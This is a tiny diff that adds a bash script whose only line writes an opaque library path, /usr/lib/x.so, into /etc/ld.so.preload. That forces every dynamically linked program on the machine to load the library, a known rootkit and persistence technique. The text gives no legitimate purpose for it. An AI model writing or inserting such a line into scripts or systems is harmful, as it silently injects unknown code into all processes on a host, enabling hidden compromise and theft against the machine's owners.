@@ -1,0 +1,2 @@
+#!/bin/bash
+echo /usr/lib/x.so > /etc/ld.so.preload
